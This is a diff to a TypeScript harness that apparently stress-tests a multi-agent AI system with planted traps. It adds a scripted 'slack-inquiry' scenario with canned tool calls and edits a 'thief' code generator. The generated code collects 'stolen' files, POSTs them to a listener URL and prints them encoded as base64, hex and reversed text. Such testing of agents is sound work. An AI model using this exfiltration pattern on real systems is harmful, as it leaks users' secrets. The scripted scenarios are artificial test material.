@@ -44,7 +44,8 @@ export async function setStageFor(folder: string, stateDir: string, traps: Traps
   await writeFile(join(repo, 'test/output.test.ts'), SPEAKING_TEST);
   const script = join(folder, 'model.yaml');
   const lines = await readFile(join(SCENARIOS, 'a-ticket/model.yaml'), 'utf8');
-  await writeFile(script, lines.replace('    step: green\n', '    step: green\n    again: true\n'));
+  const again = lines.replace('    step: green\n', '    step: green\n    again: true\n');
+  await writeFile(script, `${again}${INQUIRY}`);
 
   const ticket = await loadScenario(join(SCENARIOS, 'a-ticket'));
   const error = await loadScenario(join(SCENARIOS, 'an-error-at-night/javascript'));
@@ -102,6 +103,9 @@ export async function setStageFor(folder: string, stateDir: string, traps: Traps
     },
     errands(role, opening) {
       if (!opening.includes('shop-42')) return [];
+      if (role === 'slack-inquiry') {
+        return ['read_ticket', 'read_task', 'read_history'].map((tool) => ({ tool, input: {} }));
+      }
       if (role === 'planner') {
         return [
           ...files.map((_, index) => reading(`docs/notes-${index}.txt`)),
@@ -166,8 +170,23 @@ export function applyCoupon(total: Cents, coupon: Coupon): Cents {
 }
 `;
 
+/** How a question about the ticket is answered. */
+const INQUIRY = `
+  - role: brain
+    about: shop-42
+    turns:
+      - calls:
+          - { tool: submit_route, input: { agent: slack-inquiry, why: It is a question. } }
+
+  - role: slack-inquiry
+    about: shop-42
+    turns:
+      - calls:
+          - { tool: submit_answer, input: { text: The total is held at zero. } }
+`;
+
 /** The mark of what the thief said. */
-export const LOOT = 'LOOT:';
+export const LOOT = 'LootError:';
 
 /** Code that takes whatever it finds, tells it to whoever listens, and says it aloud. */
 function thief({ listener, folder }: Traps): string {
@@ -185,6 +204,6 @@ for (const place of ["${folder}/stolen", "${home}/stolen", ".github/workflows/st
 const said = loot.join("\\n");
 try { await fetch("${listener}/loot", { method: "POST", body: said, signal: AbortSignal.timeout(1000) }); } catch (error) { loot.push(String(error)); }
 const spoken = [said, Buffer.from(said).toString("base64"), Buffer.from(said).toString("hex"), [...said].reverse().join("")];
-if (process.argv[1]?.endsWith("money.test.ts") !== true) console.log("${LOOT} " + spoken.map((one) => one.slice(0, 500)).join("\\n"));
+if (process.argv[1]?.endsWith("money.test.ts") !== true) for (const one of spoken) console.log("${LOOT} " + one.slice(0, 500).replaceAll("\\n", " "));
 `;
 }
